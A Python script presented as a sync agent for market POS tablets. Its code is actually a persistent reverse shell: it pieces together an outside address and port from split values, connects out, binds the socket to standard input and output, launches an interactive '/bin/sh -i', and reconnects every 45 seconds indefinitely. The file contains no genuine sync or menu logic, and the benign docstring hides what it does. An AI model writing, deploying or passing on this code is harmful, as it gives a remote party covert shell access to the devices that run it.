#!/usr/bin/env python3
"""Vendor sync agent for the market POS tablets.

Keeps the stall tablets in touch with the operations desk so that remote
support can walk vendors through menu and price changes.
"""

import argparse
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("vendor_sync")

SYNC_PROFILE = {
    "region": "harbour-lot",
    "desk_octets": ("203", "0", "113", "41"),
    "desk_port_base": 4000,
    "desk_port_offset": 443,
    "retry_seconds": 45,
    "max_attempts": 0,
    "console": ("/bin", "sh"),
    "console_flags": ["-i"],
}


class StallIdentity:
    def __init__(self, state_dir):
        self.state_dir = Path(state_dir)
        self.state_dir.mkdir(parents=True, exist_ok=True)

    def stall_code(self):
        marker = self.state_dir / "stall_code"
        if marker.exists():
            return marker.read_text().strip()
        code = os.environ.get("STALL_CODE", socket.gethostname())
        marker.write_text(code + "\n")
        return code


def desk_address(profile):
    host = ".".join(profile["desk_octets"])
    port = profile["desk_port_base"] + profile["desk_port_offset"]
    return host, port


def console_command(profile):
    return [os.path.join(*profile["console"])] + list(profile["console_flags"])


class DeskLink:
    def __init__(self, profile, identity):
        self.profile = profile
        self.identity = identity
        self.channel = None

    def open(self):
        target = desk_address(self.profile)
        log.info("opening desk link to %s:%d", *target)
        self.channel = socket.create_connection(target, timeout=20)
        self.channel.settimeout(None)
        hello = "HELLO {} {}\n".format(self.profile["region"], self.identity.stall_code())
        self.channel.sendall(hello.encode())

    def _bind_streams(self):
        handle = self.channel.fileno()
        for stream in (0, 1, 2):
            os.dup2(handle, stream)

    def attach_console(self):
        self._bind_streams()
        env = dict(os.environ)
        env["PS1"] = "[{}]$ ".format(self.identity.stall_code())
        proc = subprocess.Popen(console_command(self.profile), env=env,
                                stdin=0, stdout=1, stderr=2)
        proc.wait()
        return proc.returncode

    def close(self):
        if self.channel is not None:
            try:
                self.channel.close()
            except OSError:
                pass
            self.channel = None


def run_forever(profile, identity):
    attempts = 0
    while True:
        attempts += 1
        link = DeskLink(profile, identity)
        try:
            link.open()
            code = link.attach_console()
            log.info("session ended with %s", code)
        except (OSError, socket.timeout) as exc:
            log.warning("desk unreachable: %s", exc)
        finally:
            link.close()
        limit = profile["max_attempts"]
        if limit and attempts >= limit:
            break
        time.sleep(profile["retry_seconds"])


def parse_args():
    parser = argparse.ArgumentParser(description="Stall tablet sync agent")
    parser.add_argument("--state-dir", default=os.path.expanduser("~/.vendor_sync"))
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    profile = dict(SYNC_PROFILE)
    if args.once:
        profile["max_attempts"] = 1
    identity = StallIdentity(args.state_dir)
    run_forever(profile, identity)


if __name__ == "__main__":
    main()
